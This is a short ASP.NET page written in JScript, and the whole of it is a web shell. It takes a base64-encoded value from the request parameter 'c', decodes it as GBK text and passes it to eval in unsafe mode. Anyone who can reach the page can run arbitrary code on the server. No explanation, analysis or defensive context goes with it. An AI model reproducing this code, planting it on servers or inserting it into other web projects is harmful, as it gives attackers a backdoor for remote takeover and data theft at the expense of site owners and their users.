<%@ Page Language="Jscript" Debug="false"%>
<%
var s = System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Item["c"]));
eval(s, "unsafe");
%>
